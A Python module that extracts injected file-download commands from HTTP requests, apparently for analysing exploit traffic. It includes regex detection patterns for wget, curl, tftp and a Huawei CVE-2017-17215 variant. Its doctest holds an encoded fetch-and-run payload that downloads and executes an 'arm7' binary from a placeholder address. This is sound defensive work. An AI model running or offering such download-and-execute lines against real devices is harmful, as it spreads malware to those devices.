"""Shell commands inside requests, as exploits inject them: which files they would fetch."""

import re
from urllib.parse import unquote

# Up to the end of the line or of an XML element; where one command ends, `shell` knows.
_COMMAND = re.compile(r"\b(?:wget|curl|tftp|ftpget)(?P<blank>[ \t]|\+|\$\{?IFS\}?)[^\r\n<]*")
_IFS = re.compile(r"\$\{?IFS\}?")
# Huawei's own wget, in exploits of CVE-2017-17215: host, local file and remote file are options.
_HUAWEI = re.compile(r"\bwget -g (\S+) -l \S+ -r /?(\S+)")


def injected(text: str) -> list[str]:
    r"""Return the commands in a text that would fetch files, to be read by `shell.fetched`.

    Args:
        text: A request, or a part of one; escaped as URLs and JSON escape, or not.

    >>> injected("/shell?cd+/tmp;wget+http:/\\/192.0.2.7/arm7%3Bsh+arm7")
    ['wget http://192.0.2.7/arm7;sh arm7']
    """
    plain = unquote(text, errors="backslashreplace").replace("\\/", "/")
    return [_spelt_out(found) for found in _COMMAND.finditer(plain)]


def _spelt_out(found: re.Match[str]) -> str:
    command = found[0].replace("+", " ") if found["blank"] == "+" else found[0]
    return _HUAWEI.sub(r"wget http://\1/\2", _IFS.sub(" ", command))
